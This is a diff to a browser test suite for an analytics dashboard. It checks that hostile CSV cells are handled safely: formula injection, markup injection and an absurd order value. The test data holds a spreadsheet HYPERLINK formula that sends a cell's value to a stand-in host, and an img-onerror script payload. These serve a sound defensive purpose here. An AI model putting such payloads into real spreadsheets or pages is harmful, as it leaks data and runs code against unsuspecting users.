@@ -4,7 +4,9 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import http from 'node:http';
-import { serve, launch, cspViolations } from './harness.mjs';
+import fs from 'node:fs';
+import path from 'node:path';
+import { serve, launch, cspViolations, tempDir } from './harness.mjs';
 
 let server;
 let evil;
@@ -66,7 +68,8 @@ test('?report= refuses every spelling of another origin and sends no request', a
     await page.goto(`${server.url}index.html?report=${encodeURIComponent(spelling)}`);
     await page.locator('main[data-state=error]').waitFor({ timeout: 20000 });
     const message = await page.locator('.error-panel').textContent();
-    assert.match(message, /^The published report could not be opened: ".*" is not a report folder on this site: only folders under reports\/ here can be opened\.$/s, `refused: ${JSON.stringify(spelling)}`);
+    assert.equal(message, 'The published report could not be opened: the link does not name a report folder on this site: only folders under reports/ here can be opened.', `refused: ${JSON.stringify(spelling)}`);
+    assert.ok(!(await page.locator('main').textContent()).includes(host), 'the link\'s text is not repeated on the page');
     assert.equal(await page.locator('[data-download]').count(), 0, 'no table links');
   }
   const foreign = requests.filter((u) => !u.startsWith(server.url));
@@ -93,4 +96,54 @@ test('a crashed worker is replaced and the page says what happened', async () =>
   await page.getByRole('button', { name: 'Try with sample data' }).click();
   await page.locator('main[data-state=ready]').waitFor({ timeout: 60000 });
   assert.ok(page.workers().length >= 1);
+});
+
+test('hostile cells: formulas are text in downloads, markup is text on the page, absurd orders are set aside', async () => {
+  const { page, errors } = browser;
+  const dir = tempDir('puffy-hostile-');
+  const ua = '"Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0"';
+  const order = (client, ts, data) => `${client},https://checkout.puffy.com/thank-you,,${ts},checkout_completed,"${data.replaceAll('"', '""')}",${ua}`;
+  const lines = [
+    'client_id,page_url,referrer,timestamp,event_name,event_data,user_agent',
+    `"=HYPERLINK(""http://x.example/?""&A1,""click"")",https://puffy.com/,=1+2,2025-02-23T10:00:00.000Z,page_viewed,,${ua}`,
+    `<img src=x onerror=alert(1)>,https://puffy.com/,,2025-02-23T10:00:01.000Z,page_viewed,,${ua}`,
+    order('buyer-1', '2025-02-23T10:05:00.000Z', '{"transaction_id":"T1","revenue":500}'),
+    order('buyer-2', '2025-02-23T10:06:00.000Z', '{"transaction_id":"T2","revenue":1500}'),
+    order('buyer-3', '2025-02-23T10:07:00.000Z', '{"transaction_id":"T3","revenue":9e18}'),
+  ];
+  const csvPath = path.join(dir, 'events_20250223.csv');
+  fs.writeFileSync(csvPath, lines.join('\n') + '\n');
+  await page.goto(server.url);
+  await page.evaluate(() => localStorage.clear());
+  await page.reload();
+  await page.locator('input[type=file][multiple]').setInputFiles([csvPath]);
+  await page.locator('main[data-state=ready]').waitFor({ timeout: 30000 });
+  const revenue = async () => Number(await page.locator('[data-kpi=revenue]').getAttribute('data-value'));
+  assert.equal(await revenue(), 2000, '9e18 is set aside, 500 + 1,500 count');
+
+  await page.locator('[data-tab=quality]').click();
+  const aside = page.locator('tr[data-reason=revenue_above_cap]');
+  assert.equal(await aside.count(), 1);
+  assert.match(await aside.textContent(), /revenue 9000000000000000000 is above the cap of 25000\.00 per order/);
+  // Markup in a cell is shown as text, never parsed.
+  assert.equal(await page.locator('img[src=x]').count(), 0, 'no element made from data');
+
+  await page.locator('[data-tab=downloads]').click();
+  const [dl] = await Promise.all([page.waitForEvent('download'), page.locator('[data-download="sessions.csv"]').click()]);
+  const target = path.join(dir, 'sessions.csv');
+  await dl.saveAs(target);
+  const sessions = fs.readFileSync(target, 'utf8');
+  assert.ok(sessions.includes(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`), 'the formula client id is text');
+
+  // A lower cap re-reads the file: the 1,500 order is set aside too.
+  await page.locator('[data-tab=settings]').click();
+  await page.locator('[data-setting=max_order_revenue]').fill('1000');
+  await page.locator('[data-setting=max_order_revenue]').dispatchEvent('change');
+  await page.locator('[data-apply-settings]').click();
+  await page.locator('[data-tab=overview]').click();
+  await page.waitForFunction(() => document.querySelector('[data-kpi=revenue]')?.dataset.value === '500', null, { timeout: 30000 })
+    .catch(async (e) => { throw new Error(`${e.message}: state ${await page.locator('main').getAttribute('data-state')}, error ${await page.locator('.error-panel').textContent().catch(() => 'none')}, kpi ${await page.locator('[data-kpi=revenue]').getAttribute('data-value').catch(() => '?')}`); });
+  assert.equal(await revenue(), 500);
+  assert.deepEqual(await cspViolations(page), []);
+  assert.deepEqual(errors, []);
 });
